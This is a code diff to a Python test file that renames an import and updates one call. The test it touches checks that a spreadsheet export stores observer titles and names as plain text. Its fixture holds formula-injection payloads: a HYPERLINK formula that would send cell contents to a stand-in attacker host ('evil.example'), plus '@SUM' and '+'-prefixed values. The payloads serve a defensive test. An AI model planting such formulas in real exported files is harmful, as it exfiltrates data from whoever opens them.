@@ -12,7 +12,7 @@ from io import BytesIO
 import pytest
 from openpyxl import load_workbook
 
-from handlers.observers import service
+from handlers.observers import observation
 from handlers.observers.export import export_xlsx
 from handlers.roster import read_roster, write_roster
 from handlers.roster import texts as T
@@ -114,7 +114,7 @@ def test_the_observers_export_writes_titles_and_names_as_text(session, world):
     held.title = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
     world.observer.name = "@SUM(A1)"
     world.org.branch.name = "+城关社区党支部"
-    service.submit_observation(session, world.observer, held.id, full_form(), now=NOW, cfg=CFG)
+    observation.submit_observation(session, world.observer, held.id, full_form(), now=NOW, cfg=CFG)
     session.commit()
     data = export_xlsx(
         session,
